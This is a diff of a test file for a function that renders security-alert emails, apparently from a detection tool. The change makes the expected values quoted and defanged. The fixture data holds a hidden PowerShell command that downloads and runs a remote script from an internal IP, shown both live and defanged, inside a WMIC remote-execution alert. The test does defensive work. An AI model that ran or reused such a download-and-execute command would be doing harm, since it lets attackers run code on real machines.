@@ -18,12 +18,12 @@ describe('renderEmail', () => {
     const f = makeFinding();
     const { body } = renderEmail(f, ctx);
 
-    expect(body).toContain('WKS-FIN-042 -> srv-file-01');
-    expect(body).toContain('powershell.exe -nop -w hidden -c "iex (iwr http://10.0.0.5/a.ps1)"');
+    expect(body).toContain('"WKS-FIN-042" -> "srv-file-01"');
+    expect(body).toContain('"powershell.exe -nop -w hidden -c \\"iex (iwr hxxp://10[.]0[.]0[.]5/a.ps1)\\""');
     expect(body).toContain('/password:[REDACTED]');
-    expect(body).toMatch(/User:\s+CORP\\jdoe/);
-    expect(body).toMatch(/Parent process:\s+C:\\Windows\\System32\\cmd\.exe/);
-    expect(body).toMatch(/Parent command line:\s+cmd\.exe \/c C:\\Users\\Public\\run\.bat/);
+    expect(body).toMatch(/User:\s+"CORP\\jdoe"/);
+    expect(body).toMatch(/Parent process:\s+"C:\\Windows\\System32\\cmd\.exe/);
+    expect(body).toMatch(/Parent command line:\s+"cmd\.exe \/c C:\\Users\\Public\\run\.bat/);
     expect(body).toContain('2026-03-14T09:41:53.000Z');
     expect(body).toContain('risk score 95');
     expect(body).toContain('Severity CRITICAL');
@@ -46,7 +46,7 @@ describe('renderEmail', () => {
 
   it('names severity, pair and score in an ASCII subject under 100 characters', () => {
     const { subject } = renderEmail(makeFinding(), ctx);
-    expect(subject).toBe('[CRITICAL] WMIC remote exec WKS-FIN-042 -> srv-file-01 (risk 95)');
+    expect(subject).toBe('[CRITICAL] WMIC remote exec "WKS-FIN-042" -> "srv-file-01" (risk 95)');
   });
 
   it('cuts a long subject to 99 characters and keeps it printable ASCII', () => {
